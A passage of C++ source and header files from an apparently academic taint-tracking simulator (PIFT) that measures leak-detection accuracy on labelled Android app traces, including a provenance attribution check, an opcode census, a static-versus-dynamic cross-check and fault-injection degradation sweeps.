            row.maybe, row.cited, row.cause_matches,
            static_cast<unsigned long long>(row.faults),
            row.ok ? "ok" : "VIOLATED");
        out += line;
    }
    return out;
}

} // namespace pift::analysis
