/**
 * @file
 * Provenance attribution differentials (DESIGN.md §13).
 *
 * Two registry-wide proofs that the flight recorder explains every
 * sink verdict:
 *
 *  - attributionDifferential(): replay every labelled app with a
 *    recorder attached to the tracker and storage, run
 *    provenance::explainAll(), and check the attribution contract —
 *    every Tainted verdict resolves to a complete chain rooted at a
 *    real SourceRead, every MaybeTainted cites a concrete degradation
 *    cause, and no Clean verdict carries a chain. Fault-free, so the
 *    checks are exact (no ring pressure unless the capacity is forced
 *    low, in which case incompleteness must be *reported* as
 *    ring-evicted, never silent).
 *
 *  - faultAttributionSweep(): replay the registry once per loss-fault
 *    class (event drop, insert failure, forced eviction) through the
 *    faults interposers with the recorder attached to the injector as
 *    well. Every MaybeTainted explanation must then cite a cause of
 *    the injected family — proving the recorder attributes
 *    degradation to the event that actually caused it, not merely to
 *    *some* plausible record.
 *
 * Both are deterministic at any jobs width: each (task) owns a full
 * stack + recorder, fault seeds derive from (base, class, app) via
 * deriveFaultSeed(), and rows reduce in fixed registry order.
 */

#ifndef PIFT_ANALYSIS_ATTRIBUTION_HH
#define PIFT_ANALYSIS_ATTRIBUTION_HH

#include <cstdint>
#include <string>
#include <vector>

#include "analysis/evaluate.hh"
#include "provenance/provenance.hh"

namespace pift::analysis
{

/** Per-app result of the fault-free attribution differential. */
struct AttributionRow
{
    std::string app;
    unsigned sinks = 0;            //!< sink checks the tracker ran
    unsigned explained = 0;        //!< explanations reconstructed
    unsigned tainted = 0;          //!< Tainted verdicts
    unsigned complete_chains = 0;  //!< ... with a complete chain
    unsigned maybe = 0;            //!< MaybeTainted verdicts
    unsigned cited_causes = 0;     //!< ... with a concrete cause
    unsigned clean = 0;            //!< Clean verdicts
    unsigned clean_with_chain = 0; //!< ... carrying a chain (must be 0)
    uint64_t records = 0;          //!< records the recorder captured
    uint64_t evicted = 0;          //!< records the ring overwrote
    bool ok = false;               //!< the contract held for this app

    /** Longest reconstructed source→sink chain (links). */
    unsigned longest_chain = 0;
};

/** Configuration of the fault-free differential. */
struct AttributionConfig
{
    core::PiftParams params;
    provenance::RecorderParams recorder;
    /** Replay parallelism (0 = exec::defaultJobs(), 1 = serial). */
    unsigned jobs = 0;
};

/**
 * Replay every app in @p set with a flight recorder attached and
 * check the attribution contract per app (see file header). In
 * PIFT_PROVENANCE=OFF builds every row is vacuously ok with zero
 * counts. Deterministic at every config.jobs.
 */
std::vector<AttributionRow>
attributionDifferential(const std::vector<LabelledTrace> &set,
                        const AttributionConfig &config);

/** True when every row of @p rows satisfied the contract. */
bool attributionHolds(const std::vector<AttributionRow> &rows);

/** The loss-fault classes the attribution sweep injects. */
enum class FaultClass : uint8_t
{
    Drop,        //!< event-stream records dropped
    InsertFail,  //!< storage inserts refused
    ForcedEvict  //!< held ranges forcibly removed
};

const char *faultClassName(FaultClass c);

/** Aggregated result of one fault class over the whole set. */
struct FaultAttributionRow
{
    FaultClass fault_class = FaultClass::Drop;
    unsigned apps = 0;          //!< apps replayed
    unsigned affected = 0;      //!< apps with at least one Maybe
    unsigned maybe = 0;         //!< MaybeTainted verdicts, all apps
    unsigned cited = 0;         //!< ... citing a concrete cause
    unsigned cause_matches = 0; //!< ... of the injected family
    uint64_t faults = 0;        //!< loss faults actually injected
    bool ok = false;            //!< cited == maybe == cause_matches
};

/** Configuration of the single-class fault sweeps. */
struct FaultAttributionConfig
{
    core::PiftParams params;
    provenance::RecorderParams recorder;
    uint64_t seed = 1;       //!< base seed (class/app-unique offsets)
    uint32_t rate_num = 20'000; //!< fault rate per million draws
    unsigned jobs = 0;
};

/**
 * One registry replay per fault class, recorder attached to tracker,
 * storage, and injector; every MaybeTainted must cite a cause of the
 * injected class's family. The backend uses the default (exact
 * LruSpill) storage so no organic degradation can masquerade as the
 * injected fault. Deterministic at every config.jobs.
 */
std::vector<FaultAttributionRow>
faultAttributionSweep(const std::vector<LabelledTrace> &set,
                      const FaultAttributionConfig &config);

/** True when every fault class attributed cleanly. */
bool
faultAttributionHolds(const std::vector<FaultAttributionRow> &rows);

/** Fixed-width tables the bench and CLI print. */
std::string
formatAttributionTable(const std::vector<AttributionRow> &rows);
std::string formatFaultAttributionTable(
    const std::vector<FaultAttributionRow> &rows);

} // namespace pift::analysis

#endif // PIFT_ANALYSIS_ATTRIBUTION_HH
