#include "analysis/census.hh"

#include <algorithm>

#include "dalvik/handlers.hh"
#include "support/logging.hh"

namespace pift::analysis
{

void
accumulateCensus(const dalvik::Dex &dex, dalvik::MethodOrigin origin,
                 CensusMap &counts)
{
    for (dalvik::MethodId id = 0; id < dex.methodCount(); ++id) {
        const dalvik::Method &m = dex.method(id);
        if (m.is_native || m.origin != origin)
            continue;
        size_t unit = 0;
        while (unit < m.code.size()) {
            auto bc = static_cast<dalvik::Bc>(m.code[unit] & 0xff);
            pift_assert(static_cast<unsigned>(bc) <
                        dalvik::num_bytecodes,
                        "bad opcode in method '%s'", m.name.c_str());
            ++counts[bc];
            unit += dalvik::unitCount(bc);
        }
        pift_assert(unit == m.code.size(),
                    "method '%s' decodes past its end",
                    m.name.c_str());
    }
}

std::vector<OpcodeCount>
rankCensus(const CensusMap &counts, size_t top)
{
    uint64_t total = 0;
    for (const auto &[bc, count] : counts)
        total += count;

    std::vector<OpcodeCount> ranked;
    ranked.reserve(counts.size());
    for (const auto &[bc, count] : counts) {
        OpcodeCount oc;
        oc.bc = bc;
        oc.count = count;
        oc.percent = total
            ? 100.0 * static_cast<double>(count) /
                static_cast<double>(total)
            : 0.0;
        ranked.push_back(oc);
    }
    std::sort(ranked.begin(), ranked.end(),
              [](const OpcodeCount &a, const OpcodeCount &b) {
                  if (a.count != b.count)
                      return a.count > b.count;
                  return a.bc < b.bc;
              });
    if (top && ranked.size() > top)
        ranked.resize(top);
    return ranked;
}

std::vector<DistanceRow>
bytecodeDistanceTable()
{
    dalvik::HandlerSet set = dalvik::emitHandlers();
    std::vector<DistanceRow> rows;
    rows.reserve(dalvik::num_bytecodes);
    for (unsigned op = 0; op < dalvik::num_bytecodes; ++op) {
        auto bc = static_cast<dalvik::Bc>(op);
        DistanceRow row;
        row.bc = bc;
        row.expected = dalvik::expectedDistance(bc);
        const auto &info = set.info[op];
        if (row.expected == -2) {
            // ABI-helper path: the distance depends on the helper
            // body, not the template ("unknown" in Table 1).
            row.measured = -2;
        } else if (info.data_load_pcs.empty() ||
                   info.data_store_pcs.empty()) {
            row.measured = -1;
        } else {
            Addr first_load = *std::min_element(
                info.data_load_pcs.begin(), info.data_load_pcs.end());
            Addr last_store = *std::max_element(
                info.data_store_pcs.begin(),
                info.data_store_pcs.end());
            row.measured = static_cast<int>(
                (last_store - first_load) / isa::inst_bytes);
        }
        rows.push_back(row);
    }
    return rows;
}

} // namespace pift::analysis
