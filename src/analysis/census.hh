/**
 * @file
 * Static bytecode analyses: the Figure 10 opcode census and the
 * Table 1 load-store distance table.
 *
 * Figure 10 counts opcode appearances in dex code, split between
 * application code and the system libraries. Table 1 reports, per
 * data-moving bytecode, the longest native distance from a load of
 * moved program data to the data store inside the handler template;
 * it is computed from the emitted handlers' annotations (and pinned
 * against dynamic measurements by the test suite).
 */

#ifndef PIFT_ANALYSIS_CENSUS_HH
#define PIFT_ANALYSIS_CENSUS_HH

#include <cstdint>
#include <map>
#include <string>
#include <vector>

#include "dalvik/bytecode.hh"
#include "dalvik/method.hh"

namespace pift::analysis
{

/** Count of one opcode in a census. */
struct OpcodeCount
{
    dalvik::Bc bc;
    uint64_t count = 0;
    double percent = 0.0;
};

/** Accumulator for opcode appearance counts. */
using CensusMap = std::map<dalvik::Bc, uint64_t>;

/**
 * Walk every bytecode method of @p origin in @p dex and add its
 * opcode appearances into @p counts.
 */
void accumulateCensus(const dalvik::Dex &dex,
                      dalvik::MethodOrigin origin, CensusMap &counts);

/**
 * Sort a census into Figure 10 form: descending by count, with
 * percentages of the total.
 *
 * @param top keep only the most frequent @p top opcodes (0 = all)
 */
std::vector<OpcodeCount> rankCensus(const CensusMap &counts,
                                    size_t top = 30);

/** One Table 1 row. */
struct DistanceRow
{
    dalvik::Bc bc;
    int expected;   //!< Table 1 value (-1 non-moving, -2 unknown)
    int measured;   //!< from the emitted handler (-1/-2 likewise)
};

/**
 * The Table 1 data: per bytecode, the expected (paper) and measured
 * (emitted-template) longest data-load-to-store distance.
 */
std::vector<DistanceRow> bytecodeDistanceTable();

} // namespace pift::analysis

#endif // PIFT_ANALYSIS_CENSUS_HH
