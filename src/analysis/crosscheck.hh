/**
 * @file
 * Static-vs-dynamic verdict cross-check.
 *
 * Pairs the static oracle's per-app classification with the dynamic
 * PIFT replay verdict and summarises both against ground truth plus
 * their mutual agreement matrix. Pure data plumbing — the verdicts
 * themselves come from droidbench/static_oracle.hh and evaluate.hh.
 */

#ifndef PIFT_ANALYSIS_CROSSCHECK_HH
#define PIFT_ANALYSIS_CROSSCHECK_HH

#include <string>
#include <vector>

#include "analysis/evaluate.hh"

namespace pift::analysis
{

/** One app's paired verdicts. */
struct VerdictPair
{
    std::string name;
    bool truth = false;   //!< registry ground truth
    bool dynamic_leaks = false;
    bool static_leaks = false;
};

/** Both per-method accuracies plus the agreement matrix. */
struct CrossCheck
{
    Accuracy static_vs_truth;
    Accuracy dynamic_vs_truth;

    // Static-vs-dynamic confusion matrix.
    unsigned both_flag = 0;    //!< both say leaky
    unsigned both_clean = 0;   //!< both say benign
    unsigned static_only = 0;  //!< static leaky, dynamic benign
    unsigned dynamic_only = 0; //!< dynamic leaky, static benign

    std::vector<std::string> disagreements; //!< app names

    unsigned agreements() const { return both_flag + both_clean; }
};

inline CrossCheck
crossCheck(const std::vector<VerdictPair> &pairs)
{
    CrossCheck cc;
    auto score = [](Accuracy &acc, bool verdict, bool truth) {
        if (verdict && truth)
            ++acc.tp;
        else if (verdict && !truth)
            ++acc.fp;
        else if (!verdict && !truth)
            ++acc.tn;
        else
            ++acc.fn;
    };
    for (const VerdictPair &p : pairs) {
        score(cc.static_vs_truth, p.static_leaks, p.truth);
        score(cc.dynamic_vs_truth, p.dynamic_leaks, p.truth);
        if (p.static_leaks && p.dynamic_leaks)
            ++cc.both_flag;
        else if (!p.static_leaks && !p.dynamic_leaks)
            ++cc.both_clean;
        else if (p.static_leaks)
            ++cc.static_only;
        else
            ++cc.dynamic_only;
        if (p.static_leaks != p.dynamic_leaks)
            cc.disagreements.push_back(p.name);
    }
    return cc;
}

} // namespace pift::analysis

#endif // PIFT_ANALYSIS_CROSSCHECK_HH
