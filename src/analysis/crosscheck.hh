/**
 * @file
 * Static-vs-dynamic verdict and policy cross-check.
 *
 * Pairs the static oracle's per-app classifications (both modes:
 * explicit-only and implicit-flow) with the dynamic PIFT replay
 * verdict and summarises all three against ground truth plus the
 * mutual agreement matrices. Also checks the joined per-app static
 * policy against the dynamic sweep's window optimum: a sound policy
 * must cover (be at least as wide as) the smallest window at which
 * the replay sweep reaches 100% accuracy. Pure data plumbing — the
 * verdicts themselves come from droidbench/static_oracle.hh and
 * evaluate.hh, the policies from static/policy.hh.
 */

#ifndef PIFT_ANALYSIS_CROSSCHECK_HH
#define PIFT_ANALYSIS_CROSSCHECK_HH

#include <string>
#include <vector>

#include "analysis/evaluate.hh"
#include "static/policy.hh"

namespace pift::analysis
{

/** One app's paired verdicts. */
struct VerdictPair
{
    std::string name;
    bool truth = false;   //!< registry ground truth
    bool dynamic_leaks = false;
    bool static_leaks = false;   //!< explicit-mode oracle
    bool implicit_leaks = false; //!< implicit-mode oracle
};

/** Per-method accuracies plus the agreement matrices. */
struct CrossCheck
{
    Accuracy static_vs_truth;   //!< explicit mode
    Accuracy implicit_vs_truth; //!< implicit mode
    Accuracy dynamic_vs_truth;

    // Explicit-static-vs-dynamic confusion matrix.
    unsigned both_flag = 0;    //!< both say leaky
    unsigned both_clean = 0;   //!< both say benign
    unsigned static_only = 0;  //!< static leaky, dynamic benign
    unsigned dynamic_only = 0; //!< dynamic leaky, static benign

    std::vector<std::string> disagreements; //!< app names

    // Implicit-static-vs-dynamic disagreements (the interesting set:
    // a name here means one side sees a flow the other misses).
    std::vector<std::string> implicit_disagreements;

    unsigned agreements() const { return both_flag + both_clean; }
};

inline CrossCheck
crossCheck(const std::vector<VerdictPair> &pairs)
{
    CrossCheck cc;
    auto score = [](Accuracy &acc, bool verdict, bool truth) {
        if (verdict && truth)
            ++acc.tp;
        else if (verdict && !truth)
            ++acc.fp;
        else if (!verdict && !truth)
            ++acc.tn;
        else
            ++acc.fn;
    };
    for (const VerdictPair &p : pairs) {
        score(cc.static_vs_truth, p.static_leaks, p.truth);
        score(cc.implicit_vs_truth, p.implicit_leaks, p.truth);
        score(cc.dynamic_vs_truth, p.dynamic_leaks, p.truth);
        if (p.static_leaks && p.dynamic_leaks)
            ++cc.both_flag;
        else if (!p.static_leaks && !p.dynamic_leaks)
            ++cc.both_clean;
        else if (p.static_leaks)
            ++cc.static_only;
        else
            ++cc.dynamic_only;
        if (p.static_leaks != p.dynamic_leaks)
            cc.disagreements.push_back(p.name);
        if (p.implicit_leaks != p.dynamic_leaks)
            cc.implicit_disagreements.push_back(p.name);
    }
    return cc;
}

/** Joined static policy vs the dynamic sweep's window optimum. */
struct PolicyCrossCheck
{
    static_analysis::StaticPolicy joined;
    WindowBound dynamic_optimum;
    unsigned risky_apps = 0; //!< apps with implicit_risk

    /**
     * True when the joined policy is at least as wide as the
     * dynamic optimum (and the optimum exists) — a narrower static
     * window would reopen leaks the replay sweep needs the full
     * window to catch.
     */
    bool covers = false;
};

inline PolicyCrossCheck
policyCrossCheck(
    const std::vector<static_analysis::StaticPolicy> &policies,
    const WindowBound &dynamic_optimum)
{
    PolicyCrossCheck pc;
    pc.joined = static_analysis::joinPolicies(policies);
    pc.dynamic_optimum = dynamic_optimum;
    for (const static_analysis::StaticPolicy &p : policies)
        pc.risky_apps += p.implicit_risk ? 1 : 0;
    pc.covers = dynamic_optimum.found() &&
                pc.joined.ni >=
                    static_cast<int>(dynamic_optimum.ni) &&
                pc.joined.nt >= static_cast<int>(dynamic_optimum.nt);
    return pc;
}

} // namespace pift::analysis

#endif // PIFT_ANALYSIS_CROSSCHECK_HH
