#include "analysis/degradation.hh"

#include <cstdio>
#include <memory>

#include "exec/thread_pool.hh"

namespace pift::analysis
{

namespace
{

/** Deterministic seed derivation (splitmix64 finalizer). */
uint64_t
mixSeed(uint64_t a, uint64_t b)
{
    uint64_t x = a + 0x9e3779b97f4a7c15ull * (b + 1);
    x ^= x >> 30;
    x *= 0xbf58476d1ce4e5b9ull;
    x ^= x >> 27;
    x *= 0x94d049bb133111ebull;
    x ^= x >> 31;
    return x;
}

const char *
policyName(core::EvictPolicy p)
{
    switch (p) {
      case core::EvictPolicy::LruSpill:
        return "lru-spill";
      case core::EvictPolicy::LruDrop:
        return "lru-drop";
      case core::EvictPolicy::DropNew:
        return "drop-new";
    }
    return "?";
}

} // anonymous namespace

uint64_t
deriveFaultSeed(uint64_t base, uint64_t pi, uint64_t ai)
{
    return mixSeed(mixSeed(base, pi), ai);
}

DegradedRun
replayDegraded(const sim::Trace &trace, const core::PiftParams &params,
               const core::TaintStorageParams &storage,
               const faults::FaultConfig &fault_cfg)
{
    core::TaintStorage backend(storage);
    faults::FaultInjector injector(fault_cfg);
    faults::FaultyTaintStore store(injector, backend);
    core::PiftTracker tracker(params, store);
    faults::FaultyStream stream(injector, tracker);

    sim::replay(trace, stream);
    stream.flush();

    DegradedRun run;
    run.detected = tracker.anyLeak();
    run.possible = tracker.anyPossibleLeak();
    for (const auto &sink : tracker.sinkResults()) {
        if (tracker.degraded(sink.pid))
            run.degraded = true;
    }
    run.faults = injector.stats();
    run.saturation_events = backend.stats().saturation_events;
    run.stream_loss_events = tracker.stats().stream_loss_events;
    return run;
}

std::vector<DegradationPoint>
degradationSweep(const std::vector<LabelledTrace> &set,
                 const DegradationSweepConfig &config)
{
    // Fault-free reference detections: a "lost" detection is one the
    // ideal (exact, un-faulted) stack makes but a sweep point misses.
    // One replay per app, fanned over the pool.
    std::unique_ptr<uint8_t[]> reference(new uint8_t[set.size()]());
    exec::parallelFor(
        set.size(),
        [&](size_t ai) {
            reference[ai] =
                piftDetectsLeak(set[ai].trace, config.params) ? 1 : 0;
        },
        config.jobs);

    // Lay out every sweep point up front so each (point, app) replay
    // is an independent task with a pre-derived seed; the fault
    // pattern is a pure function of (config.seed, point, app) and
    // cannot depend on scheduling.
    std::vector<DegradationPoint> points;
    for (core::EvictPolicy policy : config.policies)
        for (size_t entries : config.entry_counts)
            for (uint32_t loss : config.loss_rates) {
                DegradationPoint pt;
                pt.policy = policy;
                pt.entries = entries;
                pt.loss_num = loss;
                points.push_back(pt);
            }

    const size_t apps = set.size();
    std::vector<DegradedRun> runs(points.size() * apps);
    exec::parallelFor(
        points.size() * apps,
        [&](size_t task) {
            size_t pi = task / apps;
            size_t ai = task % apps;
            const DegradationPoint &pt = points[pi];

            core::TaintStorageParams sp;
            sp.entries = pt.entries;
            sp.policy = pt.policy;

            faults::FaultConfig fc;
            fc.seed = deriveFaultSeed(config.seed, pi, ai);
            fc.drop_num = pt.loss_num;
            fc.insert_fail_num = pt.loss_num;
            fc.forced_evict_num = pt.loss_num;

            runs[task] = replayDegraded(set[ai].trace, config.params,
                                        sp, fc);
        },
        config.jobs);

    // Deterministic reduction in fixed (point, app) order.
    for (size_t pi = 0; pi < points.size(); ++pi) {
        DegradationPoint &pt = points[pi];
        for (size_t ai = 0; ai < apps; ++ai) {
            const auto &item = set[ai];
            const DegradedRun &run = runs[pi * apps + ai];

            if (item.leaks && run.detected)
                ++pt.accuracy.tp;
            else if (item.leaks)
                ++pt.accuracy.fn;
            else if (run.detected)
                ++pt.accuracy.fp;
            else
                ++pt.accuracy.tn;

            // A detection the ideal stack makes but this point lost
            // must come with evidence.
            if (item.leaks && reference[ai] && !run.detected) {
                bool explained = run.possible || run.degraded ||
                    run.saturation_events > 0 ||
                    run.stream_loss_events > 0 ||
                    run.faults.lossFaults() > 0;
                if (explained)
                    ++pt.flagged_fn;
                else
                    ++pt.silent_fn;
            }
            pt.faults_injected += run.faults.lossFaults();
            pt.saturation_events += run.saturation_events;
            pt.stream_loss_events += run.stream_loss_events;
        }
    }
    return points;
}

std::string
formatDegradationTable(const std::vector<DegradationPoint> &points)
{
    std::string out;
    char line[200];
    std::snprintf(line, sizeof(line),
                  "%-10s %8s %9s | %3s %3s %3s %3s | %7s %6s | "
                  "%7s %6s %6s | %s\n",
                  "policy", "entries", "loss/1M", "tp", "fp", "tn",
                  "fn", "flagged", "silent", "faults", "satur",
                  "drops", "invariant");
    out += line;
    out += std::string(106, '-') + "\n";
    for (const auto &pt : points) {
        std::snprintf(
            line, sizeof(line),
            "%-10s %8zu %9u | %3u %3u %3u %3u | %7u %6u | "
            "%7llu %6llu %6llu | %s\n",
            policyName(pt.policy), pt.entries, pt.loss_num,
            pt.accuracy.tp, pt.accuracy.fp, pt.accuracy.tn,
            pt.accuracy.fn, pt.flagged_fn, pt.silent_fn,
            static_cast<unsigned long long>(pt.faults_injected),
            static_cast<unsigned long long>(pt.saturation_events),
            static_cast<unsigned long long>(pt.stream_loss_events),
            pt.invariantHolds() ? "ok" : "VIOLATED");
        out += line;
    }
    return out;
}

} // namespace pift::analysis
