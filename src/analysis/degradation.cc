#include "analysis/degradation.hh"

#include <cstdio>

namespace pift::analysis
{

namespace
{

/** Deterministic seed derivation (splitmix64 finalizer). */
uint64_t
mixSeed(uint64_t a, uint64_t b)
{
    uint64_t x = a + 0x9e3779b97f4a7c15ull * (b + 1);
    x ^= x >> 30;
    x *= 0xbf58476d1ce4e5b9ull;
    x ^= x >> 27;
    x *= 0x94d049bb133111ebull;
    x ^= x >> 31;
    return x;
}

const char *
policyName(core::EvictPolicy p)
{
    switch (p) {
      case core::EvictPolicy::LruSpill:
        return "lru-spill";
      case core::EvictPolicy::LruDrop:
        return "lru-drop";
      case core::EvictPolicy::DropNew:
        return "drop-new";
    }
    return "?";
}

} // anonymous namespace

DegradedRun
replayDegraded(const sim::Trace &trace, const core::PiftParams &params,
               const core::TaintStorageParams &storage,
               const faults::FaultConfig &fault_cfg)
{
    core::TaintStorage backend(storage);
    faults::FaultInjector injector(fault_cfg);
    faults::FaultyTaintStore store(injector, backend);
    core::PiftTracker tracker(params, store);
    faults::FaultyStream stream(injector, tracker);

    sim::replay(trace, stream);
    stream.flush();

    DegradedRun run;
    run.detected = tracker.anyLeak();
    run.possible = tracker.anyPossibleLeak();
    for (const auto &sink : tracker.sinkResults()) {
        if (tracker.degraded(sink.pid))
            run.degraded = true;
    }
    run.faults = injector.stats();
    run.saturation_events = backend.stats().saturation_events;
    run.stream_loss_events = tracker.stats().stream_loss_events;
    return run;
}

std::vector<DegradationPoint>
degradationSweep(const std::vector<LabelledTrace> &set,
                 const DegradationSweepConfig &config)
{
    // Fault-free reference detections: a "lost" detection is one the
    // ideal (exact, un-faulted) stack makes but a sweep point misses.
    std::vector<bool> reference;
    reference.reserve(set.size());
    for (const auto &item : set)
        reference.push_back(piftDetectsLeak(item.trace, config.params));

    std::vector<DegradationPoint> points;
    uint64_t point_idx = 0;
    for (core::EvictPolicy policy : config.policies) {
        for (size_t entries : config.entry_counts) {
            for (uint32_t loss : config.loss_rates) {
                DegradationPoint pt;
                pt.policy = policy;
                pt.entries = entries;
                pt.loss_num = loss;

                core::TaintStorageParams sp;
                sp.entries = entries;
                sp.policy = policy;

                uint64_t point_seed = mixSeed(config.seed, point_idx++);
                for (size_t ai = 0; ai < set.size(); ++ai) {
                    const auto &item = set[ai];
                    faults::FaultConfig fc;
                    fc.seed = mixSeed(point_seed, ai);
                    fc.drop_num = loss;
                    fc.insert_fail_num = loss;
                    fc.forced_evict_num = loss;

                    DegradedRun run = replayDegraded(
                        item.trace, config.params, sp, fc);

                    if (item.leaks && run.detected)
                        ++pt.accuracy.tp;
                    else if (item.leaks)
                        ++pt.accuracy.fn;
                    else if (run.detected)
                        ++pt.accuracy.fp;
                    else
                        ++pt.accuracy.tn;

                    // A detection the ideal stack makes but this
                    // point lost must come with evidence.
                    if (item.leaks && reference[ai] && !run.detected) {
                        bool explained = run.possible || run.degraded ||
                            run.saturation_events > 0 ||
                            run.stream_loss_events > 0 ||
                            run.faults.lossFaults() > 0;
                        if (explained)
                            ++pt.flagged_fn;
                        else
                            ++pt.silent_fn;
                    }
                    pt.faults_injected += run.faults.lossFaults();
                    pt.saturation_events += run.saturation_events;
                    pt.stream_loss_events += run.stream_loss_events;
                }
                points.push_back(pt);
            }
        }
    }
    return points;
}

std::string
formatDegradationTable(const std::vector<DegradationPoint> &points)
{
    std::string out;
    char line[200];
    std::snprintf(line, sizeof(line),
                  "%-10s %8s %9s | %3s %3s %3s %3s | %7s %6s | "
                  "%7s %6s %6s | %s\n",
                  "policy", "entries", "loss/1M", "tp", "fp", "tn",
                  "fn", "flagged", "silent", "faults", "satur",
                  "drops", "invariant");
    out += line;
    out += std::string(106, '-') + "\n";
    for (const auto &pt : points) {
        std::snprintf(
            line, sizeof(line),
            "%-10s %8zu %9u | %3u %3u %3u %3u | %7u %6u | "
            "%7llu %6llu %6llu | %s\n",
            policyName(pt.policy), pt.entries, pt.loss_num,
            pt.accuracy.tp, pt.accuracy.fp, pt.accuracy.tn,
            pt.accuracy.fn, pt.flagged_fn, pt.silent_fn,
            static_cast<unsigned long long>(pt.faults_injected),
            static_cast<unsigned long long>(pt.saturation_events),
            static_cast<unsigned long long>(pt.stream_loss_events),
            pt.invariantHolds() ? "ok" : "VIOLATED");
        out += line;
    }
    return out;
}

} // namespace pift::analysis
