/**
 * @file
 * Degradation sweep: accuracy of the PIFT stack under injected
 * loss-class faults.
 *
 * The paper argues (Section 3.3) that a saturated range cache "costs
 * only false negatives, never false positives". This sweep makes the
 * claim testable end to end: labelled app traces are replayed through
 * a FaultyStream + FaultyTaintStore sandwich over every eviction
 * policy, storage size, and fault rate of interest, and each point is
 * checked against the degraded-mode invariant:
 *
 *  - false positives stay zero (a Tainted verdict on a clean app
 *    never appears), and
 *  - every lost detection is *explained*: the missed app's sink
 *    checks answer MaybeTainted, or the run recorded saturation /
 *    stream-loss evidence for it — no silent false negatives.
 *
 * Only loss-class faults (event drops, failed inserts, forced
 * evictions) are injected here; integrity faults (corruption,
 * reordering) deliberately break the announcement contract and are
 * exercised separately by the fault unit tests.
 */

#ifndef PIFT_ANALYSIS_DEGRADATION_HH
#define PIFT_ANALYSIS_DEGRADATION_HH

#include <cstdint>
#include <string>
#include <vector>

#include "analysis/evaluate.hh"
#include "core/taint_storage.hh"
#include "faults/fault_injector.hh"

namespace pift::analysis
{

/** One replay of one app under one fault/storage configuration. */
struct DegradedRun
{
    bool detected = false;     //!< any sink verdict was Tainted
    bool possible = false;     //!< any verdict Tainted or MaybeTainted
    bool degraded = false;     //!< tracker degraded for any sink's pid
    faults::FaultStats faults; //!< faults injected during the replay
    uint64_t saturation_events = 0; //!< storage-side range losses
    uint64_t stream_loss_events = 0; //!< announced event drops
};

/**
 * Replay @p trace through the faulty stack: trace -> FaultyStream ->
 * PiftTracker over FaultyTaintStore(TaintStorage).
 */
DegradedRun replayDegraded(const sim::Trace &trace,
                           const core::PiftParams &params,
                           const core::TaintStorageParams &storage,
                           const faults::FaultConfig &fault_cfg);

/** Grid of configurations swept by degradationSweep. */
struct DegradationSweepConfig
{
    core::PiftParams params;   //!< NI/NT settings for every point
    uint64_t seed = 1;         //!< base RNG seed (point-unique offsets)
    /** Replay parallelism (0 = exec::defaultJobs(), 1 = serial). */
    unsigned jobs = 0;
    /** Loss-fault rates, numerators per million events. */
    std::vector<uint32_t> loss_rates = {0, 1'000, 10'000, 50'000};
    /** Storage entry counts to sweep. */
    std::vector<size_t> entry_counts = {8, 64, 2730};
    /** Eviction policies to sweep. */
    std::vector<core::EvictPolicy> policies = {
        core::EvictPolicy::LruSpill,
        core::EvictPolicy::LruDrop,
        core::EvictPolicy::DropNew,
    };
};

/** One row of the sweep table: a full app set at one configuration. */
struct DegradationPoint
{
    core::EvictPolicy policy = core::EvictPolicy::LruSpill;
    size_t entries = 0;
    uint32_t loss_num = 0;     //!< injected loss rate (per million)

    Accuracy accuracy;         //!< confusion matrix on hard verdicts
    unsigned flagged_fn = 0;   //!< missed leaks flagged MaybeTainted
    unsigned silent_fn = 0;    //!< missed leaks with no evidence (0!)
    uint64_t faults_injected = 0;
    uint64_t saturation_events = 0;
    uint64_t stream_loss_events = 0;

    /** The degraded-mode invariant for this point. */
    bool
    invariantHolds() const
    {
        return accuracy.fp == 0 && silent_fn == 0;
    }
};

/**
 * Seed for the (point @p pi, app @p ai) replay of a sweep rooted at
 * @p base. This derivation is part of the sweep's reproducibility
 * contract — recorded fault patterns and the BENCH_fault_degradation
 * expectations depend on it — so it is pinned by a golden-value
 * regression test and must never change. (Two rounds of the
 * splitmix64 finalizer, one per index.)
 */
uint64_t deriveFaultSeed(uint64_t base, uint64_t pi, uint64_t ai);

/**
 * Run the full sweep over @p set. Deterministic: equal (set, config)
 * give byte-identical results at every config.jobs value, including
 * the fault pattern — every (point, app) replay derives its own seed
 * and owns its whole faulty stack, and results reduce in fixed order.
 */
std::vector<DegradationPoint>
degradationSweep(const std::vector<LabelledTrace> &set,
                 const DegradationSweepConfig &config);

/** Render sweep rows as the fixed-width table the bench prints. */
std::string
formatDegradationTable(const std::vector<DegradationPoint> &points);

} // namespace pift::analysis

#endif // PIFT_ANALYSIS_DEGRADATION_HH
