#include "analysis/evaluate.hh"

#include "baseline/full_tracker.hh"
#include "core/taint_store.hh"
#include "telemetry/telemetry.hh"

namespace pift::analysis
{

namespace
{

/** Offline-replay instruments. */
struct EvalTel
{
    telemetry::Counter &replays =
        telemetry::counter("analysis.trace_replays");
};

EvalTel &
etel()
{
    static EvalTel t;
    return t;
}

} // anonymous namespace

bool
piftDetectsLeak(const sim::Trace &trace, const core::PiftParams &params)
{
    etel().replays.inc();
    core::IdealRangeStore store;
    core::PiftTracker tracker(params, store);
    sim::replay(trace, tracker);
    return tracker.anyLeak();
}

bool
baselineDetectsLeak(const sim::Trace &trace)
{
    etel().replays.inc();
    baseline::FullTracker tracker;
    sim::replay(trace, tracker);
    return tracker.anyLeak();
}

unsigned
minimalNi(const sim::Trace &trace, unsigned nt, unsigned max_ni)
{
    for (unsigned ni = 1; ni <= max_ni; ++ni) {
        core::PiftParams params;
        params.ni = ni;
        params.nt = nt;
        if (piftDetectsLeak(trace, params))
            return ni;
    }
    return max_ni + 1;
}

Accuracy
evaluateAccuracy(const std::vector<LabelledTrace> &set,
                 const core::PiftParams &params)
{
    Accuracy acc;
    for (const auto &item : set) {
        bool detected = piftDetectsLeak(item.trace, params);
        if (item.leaks && detected)
            ++acc.tp;
        else if (item.leaks && !detected)
            ++acc.fn;
        else if (!item.leaks && detected)
            ++acc.fp;
        else
            ++acc.tn;
    }
    return acc;
}

stats::HeatMap
accuracySweep(const std::vector<LabelledTrace> &set, int ni_hi,
              int nt_hi, bool untaint)
{
    telemetry::Span span("analysis:accuracy_sweep", "analysis");
    stats::HeatMap map("NT", 1, nt_hi, "NI", 1, ni_hi);
    for (int nt = 1; nt <= nt_hi; ++nt) {
        for (int ni = 1; ni <= ni_hi; ++ni) {
            core::PiftParams params;
            params.ni = static_cast<unsigned>(ni);
            params.nt = static_cast<unsigned>(nt);
            params.untaint = untaint;
            map.set(nt, ni,
                    100.0 * evaluateAccuracy(set, params).accuracy());
        }
    }
    return map;
}

OverheadResult
measureOverhead(const sim::Trace &trace, const core::PiftParams &params)
{
    etel().replays.inc();
